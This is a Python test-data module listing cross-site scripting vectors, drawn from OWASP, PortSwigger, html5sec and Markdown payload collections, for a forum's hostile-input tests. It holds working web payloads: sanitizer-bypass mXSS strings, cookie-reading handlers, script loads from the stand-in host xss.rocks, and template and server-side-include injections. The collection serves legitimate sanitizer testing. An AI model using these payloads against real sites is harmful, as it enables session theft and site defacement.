"""Cross-site scripting vectors for tests/test_hostile_input.py.

Data, not code: the strings are taken from public corpora, written out from them:
- OWASP, "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org, descended from RSnake's
  list): the `OWASP` block. Hosts are the cheat sheet's own (xss.rocks); nothing is fetched.
- Cure53 / Mario Heiderich, "HTML5 Security Cheatsheet" (html5sec.org) and PortSwigger, "Cross-site
  scripting cheat sheet" (portswigger.net/web-security/cross-site-scripting/cheat-sheet): the
  `HTML5` block, including mutation-XSS (mXSS) vectors that fool sanitizers whose parser differs from
  the browser's.
- Markdown-specific payloads as collected in "Markdown XSS Payloads" (github.com/cujanovic/
  Markdown-XSS-Payloads) and the CommonMark spec's notes on link destinations and entities: the
  `MARKDOWN` block. Posts are Markdown here, so these matter most.
- Attribute and element break-outs for reflected values (form fields re-rendered after a
  validation error, the search box, query arguments echoed into links): the `BREAKOUT` block
  (the classic "XSS locator" strings of the same OWASP sheet and PortSwigger's contexts).

Vectors with a NUL or other control character are kept apart (REFUSED): the forum refuses those
characters outright, so the tests expect a clean 4xx for them instead of a stored post.
"""
from __future__ import annotations

OWASP = [
    # Basic XSS test without filter evasion / XSS locator (polyglot)
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    # Image XSS using the JavaScript directive, without quotes, case-insensitive, HTML entities
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    # Malformed A tags, malformed IMG tags
    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
    "\\<a onmouseover=alert(document.cookie)\\>xxs link\\</a\\>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    # Default SRC tag, empty SRC, no SRC, on error alert
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    ("<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
     "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
     "&#0000083&#0000039&#0000041\">"),
    # Decimal HTML character references (with and without semicolons), hexadecimal references
    ("<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
     "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"),
    ("<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
     "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083"
     "&#0000039&#0000041>"),
    ("<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
     "&#x58&#x53&#x53&#x27&#x29>"),
    # Embedded tab, encoded tab, encoded newline, encoded carriage return
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    # Spaces and meta characters before the JavaScript in images
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    # Non-alpha-non-digit XSS
    "<SCRIPT/XSS SRC=\"https://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"https://xss.rocks/xss.js\"></SCRIPT>",
    # Extraneous open brackets, no closing script tags, protocol resolution in script tags
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    # Half open HTML/JavaScript XSS vector, double open angle brackets
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.rocks/scriptlet.html <",
    # Escaping JavaScript escapes, end title tag
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    # INPUT image, BODY image, IMG dynsrc and lowsrc, list-style-image, VBscript in an image
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    # SVG object tag, ECMAScript 6, BODY tag, BGSOUND, & JavaScript includes
    "<svg/onload=alert('XSS')>",
    "Set.constructor`alert\\x28document.domain\\x29`",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    # Style sheets: LINK, remote style sheets, @import, -moz-binding, broken-up JavaScript
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'https://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<https://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"https://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    # STYLE attribute using a comment to break up expression, IMG STYLE with expression
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    # META refresh (javascript:, data: base64, extra URL parameter), cookie manipulation
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    ("<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
     "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">"),
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    # IFRAME, IFRAME event based, FRAME, TABLE, TD
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    # DIV background-image (plain, with unicode escapes, with extra characters), DIV expression
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    ("<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072"
     "\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">"),
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    # Downlevel-hidden block, BASE tag, OBJECT tag, EMBED SVG, XML data island with CDATA obfuscation
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.rocks/scriptlet.html\"></OBJECT>",
    ("<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0i"
     "aHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9u"
     "PSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNj"
     "cmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>"),
    ("<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>"
     "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>"),
    # Server-side includes, PHP
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=https://xss.rocks/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    # XSS using HTML quote encapsulation
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    # URL string evasion
    "<A HREF=\"javascript:document.location='https://www.example.com/'\">XSS</A>",
]

HTML5 = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    ("<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
     "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>"),
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>Click<mtext>x</mtext></maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>XSS</marquee>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<form action=\"javascript:alert(1)\"><input type=submit>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<base href=\"javascript:/a/-alert(1)///////\"><a href=../lol/safari.html>test</a>",
    "<body onpageshow=alert(1)>",
    "<x onclick=alert(1)>click",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<div style=\"x:\\65xpression(alert(1))\">x</div>",
    "<template><img src=x onerror=alert(1)></template>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\" onerror=alert(1)>",
]

MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](javascript:window.onerror=alert;throw%201)",
    "[a](vbscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](<javascript:alert(1)>)",
    "[a](javascript:alert(1) \"title\")",
    "[x](https://example.com\" onmouseover=\"alert(1))",
    "[x](https://example.com \"a\\\" onmouseover=\\\"alert(1)\")",
    "![a](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](https://example.com/a.png)",
    "![x](https://example.com/a.png\"onerror=\"alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "<javascript:alert(1)>",
    "<https://example.com/\"onmouseover=\"alert(1)>",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[r]: javascript:alert(1) \"t\"\n\n[a][r]",
    "`<script>alert(1)</script>` and <script>alert(1)</script>",
    "```\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "<b onmouseover=alert(1)>**bold**</b>",
    "www.example.com/<script>alert(1)</script>",
    "https://example.com/?q=\"><script>alert(1)</script>",
]

BREAKOUT = [
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)' x='",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}{{7*7}}<%= 7*7 %>",
]

VECTORS: list[str] = OWASP + HTML5 + MARKDOWN + BREAKOUT

# The forum refuses NUL (the databases cannot store it) and other control characters in posts.
REFUSED = [
    "<IMG SRC=java\x00script:alert(\"XSS\")>",  # OWASP: null breaks up JavaScript directive
    "<SCR\x00IPT>alert(\"XSS\")</SCR\x00IPT>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",  # OWASP: spaces and meta characters before JavaScript
    "<IMG SRC=\"jav\x0bascript:alert('XSS');\">",
]
